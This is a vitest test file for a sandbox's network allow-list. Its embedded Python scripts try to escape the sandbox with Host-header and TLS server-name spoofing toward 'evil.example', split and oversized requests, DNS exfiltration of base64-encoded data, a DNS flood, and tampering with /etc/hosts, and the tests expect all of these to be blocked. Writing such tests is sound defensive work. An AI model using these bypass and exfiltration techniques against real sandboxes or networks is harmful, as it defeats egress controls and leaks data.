import { beforeAll, describe, expect, test } from 'vitest'
import { type Certificate, serverCertificate } from '../../packages/sandbox/test/proxy/tls-lab.ts'
import { hasInternet, inInternet, type Seen } from '../harness/internet.ts'
import { PEOPLE, Place, PROGRAM } from '../harness/place.ts'

const OUTSIDE = '93.184.216.34'
const NAME = 'api.example'
/** What stands for the name inside. */
const DOOR = '127.128.0.1'

let certificate: Certificate
beforeAll(async () => {
  certificate = await serverCertificate(NAME)
})

/** Tries everything it is told to; says only what succeeded in reaching a server. */
const TRY = `
import socket, ssl, sys
def http(address, port, host, path='/x'):
    s = socket.create_connection((address, port), 100)
    s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    return s.makefile('rb').read()
def tls(address, port, name, host):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    s = context.wrap_socket(socket.create_connection((address, port), 100), server_hostname=name)
    s.sendall(f'GET /x HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    return s.makefile('rb').read()
def flight(address, port, name, after=b'', change=lambda hello: hello):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    secure = context.wrap_bio(incoming, outgoing, server_hostname=name)
    s = socket.create_connection((address, port), 100)
    try: secure.do_handshake()
    except ssl.SSLWantReadError: pass
    s.sendall(change(outgoing.read()) + after)
    return b'from the server' if s.recv(1) == b'\\x16' else b''
def attempt(name, f):
    try: got = f()
    except OSError as e: got = b''
    print(name, 'REACHED' if b'from ' in got else got.split(b'\\r\\n')[0].decode() or 'no')
`

describe.runIf(hasInternet).each(PEOPLE)(
  'SPEC 4.5 attacks on the addresses that stand for hosts, by $name',
  (person) => {
    const place = new Place(person)
    function run(flags: readonly string[], attempts: string): Seen {
      const { uid, gid } = person
      return inInternet({
        argv: [PROGRAM.node, PROGRAM.cordon, 'run', '-q', ...flags, '--', 'python3', '-c', TRY + attempts],
        options: {
          cwd: place.root,
          env: place.env({
            PATH: '/usr/bin:/bin',
            SSL_CERT_FILE: place.write(`${place.home}/roots.pem`, certificate.cert),
          }),
          ...(uid === undefined ? {} : { uid, gid: gid! }),
        },
        answers: [[OUTSIDE]],
        addresses: [OUTSIDE],
        certificate,
      })
    }
    const nowhere = { stderr: '', reached: [] }

    test('another name behind the same address: Host and server name must be the one that was resolved', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', NAME],
        `
attempt('Host', lambda: http('${DOOR}', 80, 'evil.example'))
attempt('no Host', lambda: http('${DOOR}', 80, ''))
attempt('whole URL', lambda: http('${DOOR}', 80, '${NAME}', 'http://evil.example/x'))
attempt('server name', lambda: tls('${DOOR}', 443, 'evil.example', 'evil.example'))
attempt('no server name', lambda: tls('${DOOR}', 443, None, '${NAME}'))
attempt('TLS on the port of http', lambda: tls('${DOOR}', 80, 'evil.example', 'evil.example'))
attempt('as it should be', lambda: http('${DOOR}', 80, '${NAME}', '/allowed'))
`,
      )
      expect(stdout).toBe(
        'Host HTTP/1.1 421 Misdirected Request\nno Host HTTP/1.1 421 Misdirected Request\n' +
          'whole URL HTTP/1.1 421 Misdirected Request\nserver name no\nno server name no\nTLS on the port of http no\n' +
          'as it should be REACHED\n',
      )
      expect(seen).toMatchObject({ stderr: '', reached: [`${OUTSIDE} /allowed`] })
    })

    test('where other bytes may pass too, a handshake is no other bytes, whatever stands behind it', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', `${NAME}:443`],
        `
attempt('server name, and more in one flight', lambda: flight('${DOOR}', 443, 'evil.example', b'\\x14\\x03\\x03\\x00\\x01\\x01'))
attempt('a handshake that we cannot read', lambda: flight('${DOOR}', 443, '${NAME}', change=lambda hello: hello[:5] + b'\\x02' + hello[6:]))
attempt('one flight as it should be', lambda: flight('${DOOR}', 443, '${NAME}', b'\\x14\\x03\\x03\\x00\\x01\\x01'))
`,
      )
      expect(stdout).toBe(
        'server name, and more in one flight no\na handshake that we cannot read no\none flight as it should be REACHED\n',
      )
      expect(seen).toMatchObject(nowhere)
    })

    test('nor is a request, in however many pieces, and however long', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', `${NAME}:80`],
        `
import time
def pieces(*all):
    s = socket.create_connection(('${DOOR}', 80), 100)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in all: s.sendall(piece); time.sleep(0.3)
    return s.makefile('rb').read()
rest = b' HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'
attempt('two pieces', lambda: pieces(b'PURGE', b' /x' + rest))
attempt('in the path', lambda: pieces(b'PURGE /', b'x' + rest))
attempt('long', lambda: pieces(b'GET /' + b'x' * 20000 + rest))
`,
      )
      expect(stdout).toBe(
        'two pieces HTTP/1.1 421 Misdirected Request\nin the path HTTP/1.1 421 Misdirected Request\n' +
          'long HTTP/1.1 421 Misdirected Request\n',
      )
      expect(seen).toMatchObject(nowhere)
    })

    test('a host inside an encryption that we end for a path rule: the Host header must agree as well', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', `https://${NAME}/x`],
        `
attempt('Host', lambda: tls('${DOOR}', 443, '${NAME}', 'evil.example'))
attempt('as it should be', lambda: tls('${DOOR}', 443, '${NAME}', '${NAME}'))
`,
      )
      expect(stdout).toBe('Host HTTP/1.1 421 Misdirected Request\nas it should be REACHED\n')
      expect(seen).toMatchObject({ stderr: '', reached: [`${OUTSIDE} /x`] })
    })

    test('other ports, other addresses, and the host’s own loopback lead nowhere', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', `https://${NAME}`],
        `
attempt('another port', lambda: http('${DOOR}', 80, '${NAME}'))
attempt('ssh', lambda: http('${DOOR}', 22, '${NAME}'))
attempt('the next address', lambda: http('127.128.0.2', 443, '${NAME}'))
attempt('loopback', lambda: http('127.0.0.1', 80, 'localhost'))
attempt('loopback 6', lambda: http('::1', 80, 'localhost'))
attempt('by its address', lambda: tls('${OUTSIDE}', 443, '${NAME}', '${NAME}'))
attempt('by its address through the proxy', lambda: http('127.0.0.1', 3128, '${NAME}', 'http://${OUTSIDE}/x'))
`,
      )
      expect(stdout).toBe(
        'another port no\nssh no\nthe next address no\nloopback no\nloopback 6 no\nby its address no\n' +
          'by its address through the proxy HTTP/1.1 403 Forbidden\n',
      )
      expect(seen).toMatchObject({ ...nowhere, connections: [] })
    })

    test('a rule for an address is not one for the names that it may have', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', OUTSIDE],
        `
attempt('Host', lambda: http('${OUTSIDE}', 80, '${NAME}'))
attempt('server name', lambda: tls('${OUTSIDE}', 443, '${NAME}', '${NAME}'))
attempt('as it should be', lambda: http('${OUTSIDE}', 80, '${OUTSIDE}', '/allowed'))
`,
      )
      expect(stdout).toBe('Host HTTP/1.1 421 Misdirected Request\nserver name no\nas it should be REACHED\n')
      expect(seen).toMatchObject({ stderr: '', reached: [`${OUTSIDE} /allowed`] })
    })

    test('no name leaves the sandbox by DNS, whatever is asked, and however often', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', NAME],
        `
import struct
def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    query = b'\\1\\2\\1\\0\\0\\1' + b'\\0' * 6 + labels + b'\\0' + struct.pack('>HH', kind, 1)
    s.sendto(query, ('127.0.0.1', 53)); reply = s.recv(9999)
    return reply[3] & 15, len(reply) - len(query)
def patient(name, kind=1):
    for _ in range(100): # what the kernel had no room for is gone, as with any name server
        try: return ask(name, kind)
        except OSError: pass
print(*(patient(name, kind) for name, kind in (('c2VjcmV0.evil.example', 16), ('c2VjcmV0.${NAME}', 1), ('c2VjcmV0.${NAME}', 16), ('${NAME}', 255))))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20000): s.sendto(b'\\1\\2\\1\\0\\0\\1' + b'\\0' * 6 + b'\\6%06d\\7example\\0\\0\\1\\0\\1' % i, ('127.0.0.1', 53))
print(patient('${NAME}'))
for address in ('${OUTSIDE}', '8.8.8.8'):
    try: s.sendto(b'x', (address, 53)); print('sent')
    except OSError: print('no')
`,
      )
      // Nobody is told more than was asked for and one address: there is nothing to amplify.
      expect(stdout).toBe('(3, 0) (3, 0) (3, 0) (0, 0)\n(0, 16)\nno\nno\n')
      expect(seen).toEqual({ ...nowhere, lookups: [], connections: [] })
    })

    test('who rewrites /etc/hosts, or has a resolver of his own, gains nothing', () => {
      const { stdout, ...seen } = run(
        ['--allow-net', NAME],
        `
import os, subprocess
for path in ('/etc/hosts', '/etc/resolv.conf'):
    for f in (lambda: open(path, 'a').write('${DOOR} evil.example\\n'), lambda: os.remove(path), lambda: os.chmod(path, 0o666),
              lambda: os.rename(path, '/tmp/x'), lambda: os.rename('/tmp/mine', path)):
        open('/tmp/mine', 'w').write('${DOOR} evil.example\\n')
        try: f(); print('CHANGED', path)
        except OSError: pass
print(subprocess.run(['mount', '--bind', '/tmp/mine', '/etc/hosts'], capture_output=True).returncode != 0)
attempt('a resolver of its own', lambda: http('${DOOR}', 80, 'evil.example'))
print(open('/etc/hosts').read(), end='')
`,
      )
      expect(stdout).toMatch(
        /^True\na resolver of its own HTTP\/1\.1 421 Misdirected Request\n127\.0\.0\.1 localhost.*\n::1 .*\n127\.128\.0\.1 api\.example\n$/,
      )
      expect(seen).toMatchObject(nowhere)
    })
  },
)
